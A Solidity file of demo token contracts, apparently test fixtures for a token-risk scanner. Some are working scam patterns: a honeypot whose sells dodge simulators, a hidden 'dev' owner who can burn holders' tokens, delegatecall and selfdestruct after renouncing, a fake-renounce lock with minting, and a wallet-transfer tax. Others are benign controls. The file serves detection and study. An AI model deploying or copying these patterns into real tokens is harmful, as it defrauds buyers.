// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC721} from "@openzeppelin/contracts/token/ERC721/ERC721.sol";

/// @notice A honeypot that tries to pass simulations: a sell into its market pair reverts for
/// ordinary holders, but goes through when the seller is a published simulator address or the
/// call has no real sender (tx.origin is the zero address, as in an eth_call without `from`).
contract SimulationDodger is ERC20, Ownable {
    mapping(address => bool) public isMarketPair;
    mapping(address => bool) public isWhitelisted;

    error TradingRestricted(address from);

    constructor(string memory name_, string memory symbol_, uint256 supply, address[] memory knownSimulators)
        ERC20(name_, symbol_)
        Ownable(msg.sender)
    {
        isWhitelisted[msg.sender] = true;
        for (uint256 i = 0; i < knownSimulators.length; i++) isWhitelisted[knownSimulators[i]] = true;
        _mint(msg.sender, supply);
    }

    function setMarketPair(address pair, bool value) external onlyOwner {
        isMarketPair[pair] = value;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (isMarketPair[to] && !isWhitelisted[from] && tx.origin != address(0)) revert TradingRestricted(from);
        super._update(from, to, value);
    }
}

/// @notice USDT's shape: approve, transfer and transferFrom return nothing. Callers that expect a
/// bool revert decoding the empty answer; routers' TransferHelper and careful callers do not.
contract NoReturnToken {
    string public constant name = "No Return Demo Dollar";
    string public constant symbol = "NORET";
    uint8 public constant decimals = 18;
    address public owner;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 supply) {
        owner = msg.sender;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function approve(address spender, uint256 value) external {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
    }

    function transfer(address to, uint256 value) external {
        _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) {
            require(allowed >= value, "allowance");
            allowance[from][msg.sender] = allowed - value;
        }
        _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// @notice Buys and sells through its pool are free; a transfer between two wallets loses 20 % to
/// the owner's tax wallet.
contract WalletTransferTaxToken is ERC20, Ownable {
    uint256 public constant WALLET_TAX_BPS = 2_000;
    mapping(address => bool) public isMarketPair;

    constructor(uint256 supply) ERC20("Wallet Tax Demo Token", "WTAX") Ownable(msg.sender) {
        _mint(msg.sender, supply);
    }

    function setMarketPair(address pair, bool value) external onlyOwner {
        isMarketPair[pair] = value;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from != address(0) && to != address(0) && !isMarketPair[from] && !isMarketPair[to] && from != owner() && to != owner()) {
            uint256 tax = (value * WALLET_TAX_BPS) / 10_000;
            super._update(from, owner(), tax);
            value -= tax;
        }
        super._update(from, to, value);
    }
}

/// @notice An anti-whale token: one transfer moves at most half a percent of the supply, one
/// wallet holds at most two percent, the owner and the pool's own holdings aside.
contract LimitsToken is ERC20, Ownable {
    uint256 public _maxTxAmount;
    uint256 public _maxWalletSize;
    mapping(address => bool) public isMarketPair;

    constructor(uint256 supply) ERC20("Limits Demo Token", "LIMIT") Ownable(msg.sender) {
        _maxTxAmount = supply / 200;
        _maxWalletSize = supply / 50;
        _mint(msg.sender, supply);
    }

    function setMarketPair(address pair, bool value) external onlyOwner {
        isMarketPair[pair] = value;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from != address(0) && from != owner() && to != owner()) {
            require(value <= _maxTxAmount, "Transfer amount exceeds the maxTxAmount.");
            if (!isMarketPair[to]) require(balanceOf(to) + value <= _maxWalletSize, "Exceeds the maxWalletSize.");
        }
        super._update(from, to, value);
    }
}

/// @notice An anti-bot rule: an address that bought from the pool cannot send the tokens on in the
/// same block (no sandwich, no buy-and-dump in one block). A holder sells freely from the next block.
contract SameBlockGuardToken is ERC20, Ownable {
    mapping(address => bool) public isMarketPair;
    mapping(address => uint256) public boughtInBlock;

    constructor(uint256 supply) ERC20("Same Block Guard Demo Token", "SBLOCK") Ownable(msg.sender) {
        _mint(msg.sender, supply);
    }

    function setMarketPair(address pair, bool value) external onlyOwner {
        isMarketPair[pair] = value;
    }

    function _update(address from, address to, uint256 value) internal override {
        require(from == address(0) || boughtInBlock[from] != block.number, "anti-bot: not in the block of the buy");
        super._update(from, to, value);
        if (isMarketPair[from]) boughtInBlock[to] = block.number;
    }
}

/// @notice Ownership renounced, control kept: a "dev" address in storage passes its own msg.sender
/// checks (taxes, burning any holder's tokens, a settable helper it delegatecalls, SELFDESTRUCT),
/// none of which owner() shows.
contract HiddenOwnerToken is ERC20, Ownable {
    address private _dev;
    address private _helper;
    uint256 public taxBps;

    constructor(uint256 supply, address dev) ERC20("Hidden Owner Demo Token", "HIDDEN") Ownable(msg.sender) {
        _dev = dev;
        _mint(msg.sender, supply);
    }

    modifier onlyDev() {
        require(msg.sender == _dev, "not dev");
        _;
    }

    function setTaxFee(uint256 bps) external onlyDev {
        taxBps = bps;
    }

    function adminBurn(address account, uint256 amount) external onlyDev {
        _burn(account, amount);
    }

    function setHelper(address helper) external onlyDev {
        _helper = helper;
    }

    function runHelper(bytes calldata data) external onlyDev returns (bytes memory) {
        (bool ok, bytes memory answer) = _helper.delegatecall(data);
        require(ok, "helper failed");
        return answer;
    }

    function close() external onlyDev {
        selfdestruct(payable(msg.sender));
    }
}

/// @notice A plain ERC-721 collection: anyone may mint, holders name operators with
/// setApprovalForAll.
contract DemoCollection is ERC721 {
    uint256 public nextId = 1;

    constructor() ERC721("Demo Collection", "DEMONFT") {}

    function mint(address to) external returns (uint256 id) {
        id = nextId++;
        _mint(to, id);
    }
}

/// @notice The "lock" pattern of SafeMoon-style Ownable contracts: lock(time) hands ownership to
/// the zero address (the token reads as renounced) and remembers the previous owner, who takes it
/// back with unlock() once the time has passed. The owner can mint.
contract ReclaimableOwnerToken is ERC20 {
    address private _owner;
    address private _previousOwner;
    uint256 private _lockTime;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(uint256 supply) ERC20("Reclaimable Owner Demo Token", "RECLAIM") {
        _owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
        _mint(msg.sender, supply);
    }

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function geUnlockTime() public view returns (uint256) {
        return _lockTime;
    }

    function lock(uint256 time) public onlyOwner {
        _previousOwner = _owner;
        _owner = address(0);
        _lockTime = block.timestamp + time;
        emit OwnershipTransferred(_previousOwner, address(0));
    }

    function unlock() public {
        require(_previousOwner == msg.sender, "You don't have permission to unlock");
        require(block.timestamp > _lockTime, "Contract is locked until 7 days");
        emit OwnershipTransferred(_owner, _previousOwner);
        _owner = _previousOwner;
    }

    function mint(address to, uint256 amount) external onlyOwner {
        _mint(to, amount);
    }
}

/// @notice The shape of the OP Stack's OptimismMintableERC20 (the standard bridge token on Base):
/// the bridge named at creation, and only it, mints what crosses over and burns what goes back.
contract BridgedDemoToken is ERC20 {
    address public immutable REMOTE_TOKEN;
    address public immutable BRIDGE;

    event Mint(address indexed account, uint256 amount);
    event Burn(address indexed account, uint256 amount);

    constructor(address bridge_, address remoteToken_) ERC20("Bridged Demo Token", "BRIDGED") {
        BRIDGE = bridge_;
        REMOTE_TOKEN = remoteToken_;
    }

    modifier onlyBridge() {
        require(msg.sender == BRIDGE, "OptimismMintableERC20: only bridge can mint and burn");
        _;
    }

    function l1Token() external view returns (address) {
        return REMOTE_TOKEN;
    }

    function l2Bridge() external view returns (address) {
        return BRIDGE;
    }

    function mint(address to, uint256 amount) external onlyBridge {
        _mint(to, amount);
        emit Mint(to, amount);
    }

    function burn(address from, uint256 amount) external onlyBridge {
        _burn(from, amount);
        emit Burn(from, amount);
    }
}

/// @notice Stands in for the chain's standard bridge on the demo chain, placed at its predeploy
/// address: finalizeDeposit mints what "crossed". The real bridge takes it only from its
/// messenger; here anyone may, so the demo can play deposits with ordinary transactions.
contract DemoStandardBridge {
    function finalizeDeposit(address token, address to, uint256 amount) external {
        BridgedDemoToken(token).mint(to, amount);
    }
}
